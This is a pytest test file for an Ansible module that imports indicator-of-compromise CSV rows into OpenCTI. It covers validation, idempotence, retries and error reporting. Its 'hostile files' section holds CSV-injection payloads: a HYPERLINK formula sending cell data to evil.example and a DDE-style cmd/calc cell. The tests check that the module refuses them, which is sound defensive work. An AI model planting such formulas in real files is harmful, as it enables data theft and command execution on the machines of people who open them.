"""opencti_indicator_import against the in-process OpenCTI GraphQL fake (pycti does the talking)."""

from __future__ import annotations

import datetime
import json
import textwrap

import pytest
import requests
from ansible.module_utils import basic
from ansible_collections.vigil.monitoring.plugins.module_utils import opencti
from ansible_collections.vigil.monitoring.plugins.modules import opencti_indicator_import
from standins.opencti import OpenCTIFake, standard_id

needs_pycti = pytest.mark.skipif(
    not opencti.HAS_PYCTI, reason="pycti is not installed (pip install pycti==%s)" % opencti.PYCTI_TESTED_VERSION)

CREATES = {"IndicatorAdd", "StixCyberObservableAdd", "StixCoreRelationshipAdd", "LabelAdd", "ExternalReferenceAdd"}

IOCS = textwrap.dedent("""\
    # Incident INC-2024-0042: C2 infrastructure seen on the DMZ proxy
    type,value,score,labels,incident_ref,valid_until,description
    ip,203.0.113.66,90,c2;Cobalt-Strike,INC-2024-0042,2030-01-31,Beacon seen on the DMZ proxy
    ip,2001:DB8::66,85,c2,INC-2024-0042,,IPv6 fallback
    domain,Update-Check.Example.NET.,80,c2,https://tickets.example.org/INC-2024-0042,,Fallback C2 domain
    url,http://203.0.113.66/it's/beacon.bin,75,c2,,,
    sha256,E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,95,malware,INC-2024-0042,,Dropper
    md5,d41d8cd98f00b204e9800998ecf8427e,,,,,
    sha1,da39a3ee5e6b4b0d3255bfef95601890afd80709,60,,,,
    """)

BAD_ROWS = textwrap.dedent("""\
    type,value,score,labels,incident_ref,valid_until,description
    ip,198.51.100.7,70,c2,,,good one
    ip,10.0.0.300,50,,,,bad address
    hostname,c2.example.net,50,,,,unknown type
    domain,c2.example.net,101,,,,score too high
    domain,c3.example.net,50,,,31/12/2030,bad date
    md5,abc123,50,,,,short hash
    url,not a url,50,,,,bad url
    domain,good.example.net,40,,,2031-06-30T12:00:00Z,good two
    """)


@pytest.fixture
def cti():
    fake = OpenCTIFake().start()
    yield fake
    fake.stop()


@pytest.fixture
def warnings(monkeypatch):
    captured = []
    monkeypatch.setattr(basic.AnsibleModule, "warn", lambda self, warning, **kw: captured.append(warning))
    return captured


def args(fake, **overrides):
    base = {"url": fake.url, "api_token": fake.token, "content": IOCS, "retries": 0, "retry_delay": 0.0,
            "default_labels": ["vigil-import"]}
    base.update(overrides)
    return base


def run(run_module, arguments, **kwargs):
    return run_module(opencti_indicator_import, arguments, **kwargs)


def fail(run_module, arguments, **kwargs):
    """fail_json's keyword arguments (ModuleFail recognised by name: see standins/grafana.run_failing)."""
    try:
        result = run_module(opencti_indicator_import, arguments, **kwargs)
    except Exception as exc:
        if type(exc).__name__ == "ModuleFail":
            return exc.result
        raise
    raise AssertionError("the module was expected to fail but returned %r" % (result,))


# --------------------------------------------------------------------------- import


@needs_pycti
def test_first_run_creates_indicators_observables_and_links(run_module, cti):
    result = run(run_module, args(cti))

    assert result["changed"] is True
    assert result["summary"] == {"rows": 7, "valid": 7, "created_indicators": 7, "created_observables": 7,
                                 "created_relationships": 7, "unchanged": 0, "errors": 0, "skipped": 0}
    assert cti.unknown == []
    patterns = sorted(i["pattern"] for i in cti.indicators.values())
    assert patterns == sorted([
        "[ipv4-addr:value = '203.0.113.66']",
        "[ipv6-addr:value = '2001:db8::66']",
        "[domain-name:value = 'update-check.example.net']",
        "[url:value = 'http://203.0.113.66/it\\'s/beacon.bin']",
        "[file:hashes.'SHA-256' = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']",
        "[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']",
        "[file:hashes.'SHA-1' = 'da39a3ee5e6b4b0d3255bfef95601890afd80709']",
    ])
    # every indicator is linked (based-on) to its observable
    assert all(len(i["observable_ids"]) == 1 for i in cti.indicators.values())
    assert len(cti.observables) == 7 and len(cti.relationships) == 7


@needs_pycti
def test_row_fields_reach_opencti(run_module, cti):
    run(run_module, args(cti))

    beacon = cti.indicator_by_value("203.0.113.66")
    assert beacon["x_opencti_score"] == 90
    assert beacon["valid_until"] == "2030-01-31T00:00:00.000Z"
    assert beacon["description"] == "Beacon seen on the DMZ proxy"
    assert beacon["x_opencti_main_observable_type"] == "IPv4-Addr"
    assert beacon["x_opencti_detection"] is True
    assert beacon["indicator_types"] == ["malicious-activity"]
    labels = {cti.labels_by_id()[lid]["value"] for lid in beacon["label_ids"]}
    assert labels == {"vigil-import", "c2", "cobalt-strike"}
    reference = next(r for r in cti.references.values() if r["id"] in beacon["external_reference_ids"])
    assert (reference["source_name"], reference["external_id"]) == ("vigil-incident", "INC-2024-0042")
    observable = cti.observables[beacon["observable_ids"][0]]
    assert observable["x_opencti_score"] == 90 and observable["value"] == "203.0.113.66"

    unscored = cti.indicator_by_value("d41d8cd98f00b204e9800998ecf8427e")
    assert unscored["x_opencti_score"] == 50  # default_score
    domain = cti.indicator_by_value("update-check.example.net")
    url_ref = next(r for r in cti.references.values() if r["id"] in domain["external_reference_ids"])
    assert url_ref["url"] == "https://tickets.example.org/INC-2024-0042"


@needs_pycti
def test_labels_and_references_are_created_once(run_module, cti):
    run(run_module, args(cti))

    assert sorted(cti.labels) == ["c2", "cobalt-strike", "malware", "vigil-import"]
    assert cti.mutations().count("LabelAdd") == 4
    assert cti.mutations().count("ExternalReferenceAdd") == 2


@needs_pycti
def test_second_run_sends_no_mutation(run_module, cti):
    run(run_module, args(cti))
    cti.requests.clear()

    result = run(run_module, args(cti))

    assert result["changed"] is False
    assert cti.mutations() == []
    assert [row["value"] for row in result["unchanged"]][:2] == ["203.0.113.66", "2001:db8::66"]
    assert result["summary"]["unchanged"] == 7 and result["created"] == []


@needs_pycti
def test_indicators_created_elsewhere_are_not_duplicated(run_module, cti):
    """An indicator that exists (same pattern) gets only its missing observable and link."""
    existing = {"id": "11111111-1111-4111-8111-111111111111",
                "standard_id": standard_id("indicator", {"pattern": "[ipv4-addr:value = '203.0.113.66']"}),
                "entity_type": "Indicator", "parent_types": [], "name": "203.0.113.66",
                "pattern": "[ipv4-addr:value = '203.0.113.66']", "pattern_type": "stix", "x_opencti_score": 30,
                "valid_until": None, "observable_ids": [], "label_ids": [], "external_reference_ids": []}
    cti.indicators[existing["id"]] = existing

    result = run(run_module, args(cti, content="type,value\nip,203.0.113.66\n"))

    assert result["created"][0]["created"] == ["observable", "relationship"]
    assert "IndicatorAdd" not in cti.mutations()
    assert len(cti.indicators) == 1 and existing["x_opencti_score"] == 30  # existing indicator not modified
    assert existing["observable_ids"] == [result["created"][0]["observable_id"]]


# --------------------------------------------------------------------------- check and diff mode


@needs_pycti
def test_check_mode_reports_what_would_be_created_and_sends_no_mutation(run_module, cti):
    result = run(run_module, args(cti), check_mode=True)

    assert result["changed"] is True
    assert len(result["created"]) == 7
    assert result["created"][0]["created"] == ["indicator", "observable", "relationship"]
    assert result["created"][0]["indicator_id"] is None
    assert cti.mutations() == []
    assert cti.indicators == {} and cti.labels == {}


@needs_pycti
def test_check_mode_after_import_is_unchanged(run_module, cti):
    run(run_module, args(cti))
    cti.requests.clear()

    result = run(run_module, args(cti), check_mode=True)

    assert result["changed"] is False and cti.mutations() == []


@needs_pycti
def test_diff_lists_patterns_before_and_after(run_module, cti):
    content = "type,value\nip,198.51.100.7\n"
    first = run(run_module, args(cti, content=content), diff=True)
    second = run(run_module, args(cti, content=content), diff=True)

    assert first["diff"] == {"before": "", "after": "[ipv4-addr:value = '198.51.100.7']\n"}
    assert second["diff"]["before"] == second["diff"]["after"] == "[ipv4-addr:value = '198.51.100.7']\n"


# --------------------------------------------------------------------------- bad rows


@needs_pycti
def test_malformed_rows_are_reported_and_valid_rows_imported(run_module, cti, warnings):
    result = run(run_module, args(cti, content=BAD_ROWS))

    assert result["changed"] is True
    assert sorted(i["name"] for i in cti.indicators.values()) == ["198.51.100.7", "good.example.net"]
    errors = {e["line"]: e["error"] for e in result["errors"]}
    assert sorted(errors) == [3, 4, 5, 6, 7, 8]
    assert "'10.0.0.300' is not an IPv4 or IPv6 address" in errors[3]
    assert "type 'hostname' is unknown; use one of ip, domain, url, sha256, md5, sha1" in errors[4]
    assert "score 101 is out of range" in errors[5]
    assert "valid_until '31/12/2030' is not a date; use YYYY-MM-DD" in errors[6]
    assert "not a MD5 hash (32 hexadecimal characters)" in errors[7]
    assert "'not a url' is not a valid URL" in errors[8]
    assert result["summary"]["errors"] == 6 and result["summary"]["created_indicators"] == 2
    assert len(warnings) == 1
    assert warnings[0].startswith("6 row(s) not imported, listed in 'errors'; line 3 (ip 10.0.0.300):")
    assert "(and 1 more)" in warnings[0]


@needs_pycti
def test_fail_on_row_errors_fails_after_importing_the_valid_rows(run_module, cti):
    result = fail(run_module, args(cti, content=BAD_ROWS, fail_on_row_errors=True))

    assert "6 row(s) not imported" in result["msg"]
    assert len(result["errors"]) == 6
    assert len(cti.indicators) == 2  # the valid rows are in OpenCTI


@needs_pycti
def test_a_row_refused_by_opencti_does_not_stop_the_others(run_module, cti):
    cti.refuse["IndicatorAdd"] = "Indicator of type IPv4-Addr refused by a custom rule"

    result = run(run_module, args(cti, content="type,value\nip,198.51.100.7\nip,198.51.100.8\n"))

    assert [e["line"] for e in result["errors"]] == [2]
    error = result["errors"][0]["error"]
    assert "OpenCTI refused the row: FUNCTIONAL_ERROR: Indicator of type IPv4-Addr refused" in error
    assert [i["name"] for i in cti.indicators.values()] == ["198.51.100.8"]


@needs_pycti
def test_a_repeated_value_is_imported_once(run_module, cti):
    content = "type,value\nip,198.51.100.7\nip,198.51.100.07\nip,198.51.100.7\n"

    result = run(run_module, args(cti, content=content))

    assert len(cti.indicators) == 1
    assert result["skipped"] == [{"line": 4, "type": "ip", "value": "198.51.100.7", "reason": "duplicate of line 2"}]
    assert result["errors"][0]["line"] == 3  # leading zeros are not an address Python (or OpenCTI) accepts


# --------------------------------------------------------------------------- connection, options


@needs_pycti
def test_wrong_token_fails_at_once_with_a_hint(run_module, cti):
    result = fail(run_module, args(cti, api_token="ffffffff-ffff-4fff-bfff-ffffffffffff", retries=3))

    assert "did not answer the health query" in result["msg"] and "AUTH_REQUIRED" in result["msg"]
    assert "api_token" in result["hint"]
    assert len(cti.requests) == 1  # an authentication error is not retried
    assert "ffffffff-ffff-4fff-bfff-ffffffffffff" not in repr(result)


@needs_pycti
def test_platform_still_starting_is_retried_a_bounded_number_of_times(run_module, cti):
    cti.down = 2
    assert run(run_module, args(cti, retries=2))["changed"] is True

    cti.down = 10
    result = fail(run_module, args(cti, retries=1))
    assert "after 2 attempt(s)" in result["msg"]


@needs_pycti
def test_tls_verification_is_on_by_default_and_uses_ca_path(monkeypatch):
    seen = {}

    class Client:
        def __init__(self, url, token, **kwargs):
            seen.update(kwargs)
            self.session = requests.Session()

        def query(self, _query):
            return {"data": {"about": {"version": "7.261026.0"}}}

    monkeypatch.setattr(opencti, "OpenCTIApiClient", Client)
    base = {"url": "https://cti.example.org", "api_token": "t", "validate_certs": True, "ca_path": None,
            "client_cert": None, "client_key": None, "timeout": 30, "retries": 0, "retry_delay": 0}
    opencti.connect(base)
    assert seen["ssl_verify"] is True and seen["perform_health_check"] is False
    opencti.connect(dict(base, ca_path="/etc/vigil/tls/ca.crt"))
    assert seen["ssl_verify"] == "/etc/vigil/tls/ca.crt"


def test_connect_refuses_a_pycti_without_the_session_it_must_guard(monkeypatch):
    class Client:
        def __init__(self, url, token, **kwargs):
            pass

    monkeypatch.setattr(opencti, "OpenCTIApiClient", Client)
    base = {"url": "https://cti.example.org", "api_token": "t", "validate_certs": True, "ca_path": None,
            "client_cert": None, "client_key": None, "timeout": 30, "retries": 0, "retry_delay": 0}
    with pytest.raises(opencti.OpenCTIError, match="has no requests session"):
        opencti.connect(base)


@needs_pycti
def test_version_mismatch_is_a_warning(run_module, cti, warnings):
    cti.version = "6.9.22"
    run(run_module, args(cti, content="type,value\nip,198.51.100.7\n"))
    assert any("pycti %s talks to OpenCTI 6.9.22" % opencti.PYCTI_VERSION in w for w in warnings)


def test_missing_pycti_fails_with_an_install_hint(run_module, monkeypatch):
    monkeypatch.setattr(opencti, "HAS_PYCTI", False)
    monkeypatch.setattr(opencti, "PYCTI_IMPORT_ERROR", "ModuleNotFoundError: No module named 'pycti'")

    result = fail(run_module, {"url": "https://cti.example.org", "api_token": "t", "content": "type,value\n"})

    assert "pycti" in result["msg"] and "pip install pycti==%s" % opencti.PYCTI_TESTED_VERSION in result["msg"]


@needs_pycti
@pytest.mark.parametrize("override,message", [
    ({"default_score": 101}, "default_score 101 is out of range"),
    ({"delimiter": ";;"}, "delimiter ';;' must be exactly one character"),
    ({"url": "cti.example.org"}, "url 'cti.example.org' must start with http:// or https://"),
    ({"client_key": "/etc/key.pem"}, "client_key is set without client_cert"),
])
def test_bad_options_are_named(run_module, cti, override, message):
    result = fail(run_module, args(cti, **override))
    assert message in result["msg"]
    assert cti.requests == []


@needs_pycti
def test_missing_file_and_bad_header_are_explained(run_module, cti, tmp_path):
    arguments = args(cti, path=str(tmp_path / "nope.csv"))
    del arguments["content"]
    assert "does not exist or is not a file" in fail(run_module, arguments)["msg"]

    result = fail(run_module, args(cti, content="kind,indicator\nip,198.51.100.7\n"))
    assert "has no type or value column" in result["msg"]
    assert cti.requests == []


@needs_pycti
def test_csv_from_a_file_with_semicolons(run_module, cti, tmp_path):
    path = tmp_path / "iocs.csv"
    path.write_text("\ufefftype;value;Incident Reference\nip;198.51.100.7;INC-1\n", encoding="utf-8")

    result = run(run_module, {"url": cti.url, "api_token": cti.token, "path": str(path), "delimiter": ";",
                              "retries": 0})

    assert result["summary"]["created_indicators"] == 1
    assert [r["external_id"] for r in cti.references.values()] == ["INC-1"]


@needs_pycti
def test_the_sample_file_of_the_role_imports_cleanly(run_module, cti):
    import pathlib

    sample = pathlib.Path(__file__).resolve().parents[4] / "roles" / "opencti" / "files" / "sample-iocs.csv"
    result = run(run_module, {"url": cti.url, "api_token": cti.token, "path": str(sample), "retries": 0})

    assert result["errors"] == [] and result["summary"]["created_indicators"] >= 5


# --------------------------------------------------------------------------- parsing (no pycti needed)


NOW = datetime.datetime(2026, 11, 1, tzinfo=datetime.timezone.utc)


def test_quoted_fields_may_hold_the_delimiter_and_newlines():
    text = ('type,value,description\nip,198.51.100.7,"first, with comma"\n'
            'domain,a.example.net,"two\nlines"\nip,198.51.100.9,\n')

    parsed = opencti.parse_csv(text, ",", 50, [], NOW)

    assert [(r["line"], r["value"]) for r in parsed["rows"]] == [
        (2, "198.51.100.7"), (3, "a.example.net"), (5, "198.51.100.9")]
    assert parsed["rows"][1]["description"] == "two\nlines"


@pytest.mark.parametrize("raw,expected", [
    ("2030-01-31", "2030-01-31T00:00:00.000Z"),
    ("2030-01-31T12:30:00Z", "2030-01-31T12:30:00.000Z"),
    ("2030-01-31T14:30:00+02:00", "2030-01-31T12:30:00.000Z"),
    ("", None),
])
def test_valid_until_is_normalised_to_utc(raw, expected):
    assert opencti.check_valid_until(raw, NOW) == expected


def test_extra_fields_and_unknown_columns_are_reported():
    parsed = opencti.parse_csv("type,value,tlp\nip,198.51.100.7,amber,extra\nip,198.51.100.8,amber\n", ",", 50, [], NOW)

    assert parsed["unknown_columns"] == ["tlp"]
    assert "4 fields for 3 columns" in parsed["errors"][0]["error"]
    assert [r["value"] for r in parsed["rows"]] == ["198.51.100.8"]


def test_network_ranges_and_bad_domains_are_refused():
    with pytest.raises(opencti.RowError, match="network range"):
        opencti.check_ip("203.0.113.0/24")
    with pytest.raises(opencti.RowError, match="not a valid domain"):
        opencti.check_domain("-bad-.example.net")
    with pytest.raises(opencti.RowError, match="not a valid domain"):
        opencti.check_domain("localhost")
    assert opencti.check_domain("bücher.example.") == "xn--bcher-kva.example"


# --------------------------------------------------------------------------- hostile files (issue 13)


@needs_pycti
def test_a_latin1_file_is_refused_before_anything_is_sent(run_module, cti, tmp_path):
    path = tmp_path / "iocs.csv"
    path.write_bytes("type,value,labels\nip,198.51.100.7,réseau\n".encode("latin-1"))
    arguments = args(cti, path=str(path))
    del arguments["content"]

    result = fail(run_module, arguments)

    assert "is not UTF-8 text: byte 0xe9 at line 2, column 18" in result["msg"]
    assert "CSV UTF-8" in result["msg"] and "nothing was imported" in result["msg"]
    assert cti.requests == []


@needs_pycti
def test_content_decoded_from_another_encoding_is_refused(run_module, cti):
    result = fail(run_module, args(cti, content="type,value,labels\nip,198.51.100.7,r\ufffdseau\n"))
    assert "content is not clean UTF-8 text: U+FFFD" in result["msg"] and "line 2, column 18" in result["msg"]
    assert cti.requests == []


FORMULAS = textwrap.dedent("""\
    type,value,score,labels,incident_ref,valid_until,description
    url,=HYPERLINK("http://evil.example/?"&A1),50,,,,
    ip,198.51.100.10,50,,,,=cmd|' /C calc'!A0
    ip,198.51.100.11,50,c2;@SUM(1+1),,,
    ip,198.51.100.12,+50,,,,
    ip,198.51.100.13,50,,-INC-1,,
    domain,ok.example.net,50,c2,INC-1,,Seen on the proxy - twice
    ip,198.51.100.14,50,,,,"\tstarts with a tab"
    ip,198.51.100.15,50,,,,"\x1b[2J clears the screen"
    """)


@needs_pycti
def test_formula_like_cells_are_refused_row_by_row(run_module, cti, warnings):
    result = run(run_module, args(cti, content=FORMULAS))

    errors = {e["line"]: e["error"] for e in result["errors"]}
    assert sorted(errors) == [2, 3, 4, 5, 6, 8, 9]
    assert "value '=HYPERLINK(" in errors[2] and "runs as a formula (CSV injection)" in errors[2]
    assert "description '=cmd|' /C calc'!A0' starts with '='" in errors[3]
    assert "labels 'c2;@SUM(1+1)' starts with '@'" in errors[4]
    assert "score '+50' starts with '+'" in errors[5]
    assert "incident_ref '-INC-1' starts with '-'" in errors[6]
    assert "starts with '\\t'" in errors[8]
    assert "contains the control character '\\x1b'" in errors[9]
    # Nothing of the refused rows reached OpenCTI, the clean row did (a '-' inside a text is fine).
    assert [i["name"] for i in cti.indicators.values()] == ["ok.example.net"]
    sent = json.dumps([r.body for r in cti.requests])
    for fragment in ("HYPERLINK", "calc", "SUM(", "-INC-1", "starts with a tab", "clears the screen"):
        assert fragment not in sent
    assert "\\u001b" not in warnings[0] and "\x1b" not in warnings[0]


@needs_pycti
def test_twenty_thousand_bad_rows_make_one_warning(run_module, cti, warnings):
    content = "type,value\n" + "".join("ip,not-an-address-%d\n" % i for i in range(20000))
    result = run(run_module, args(cti, content=content))
    assert result["summary"]["errors"] == 20000
    assert len(warnings) == 1 and warnings[0].startswith("20000 row(s) not imported")
    assert warnings[0].count("line ") == 5 and "(and 19995 more)" in warnings[0]
    assert len(warnings[0]) < 2000
